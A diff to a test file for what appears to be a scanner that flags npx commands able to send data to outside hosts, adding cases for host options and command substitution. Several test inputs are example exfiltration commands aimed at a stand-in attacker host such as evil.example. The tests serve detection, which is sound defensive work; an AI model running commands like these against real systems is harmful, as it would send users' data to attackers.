@@ -97,8 +97,14 @@ describe('findings point inside the command string', () => {
         .map((f) => f.level)
         .sort();
     expect(await levels('npx -y foo https://evil.example/upload')).toEqual(['error']);
-    expect(await levels('npx -y http-server -p 8080 &')).toEqual(['error', 'notice']);
+    expect(await levels('npx -y http-server -p 8080 &')).toEqual(['error', 'error']);
     expect(await levels('npx -y foo http://localhost:3000/x')).toEqual(['notice']);
+    // A host, a value filled in when it runs: it may send anywhere. Words, options and the project folder: nowhere.
+    expect(await levels('npx -y uploader --host evil.example')).toEqual(['error']);
+    expect(await levels('npx -y uploader $(cat .target)')).toEqual(['error']);
+    expect(await levels('npx -y powerline@latest --theme=nord')).toEqual(['notice']);
+    expect(await levels('npx --yes sidekick hook stop --project-dir=$CLAUDE_PROJECT_DIR')).toEqual(['notice']);
+    expect(await levels('npx -y http-server --help')).toEqual(['notice']);
   });
 
   it('at the argument or environment value of an MCP launch', async () => {
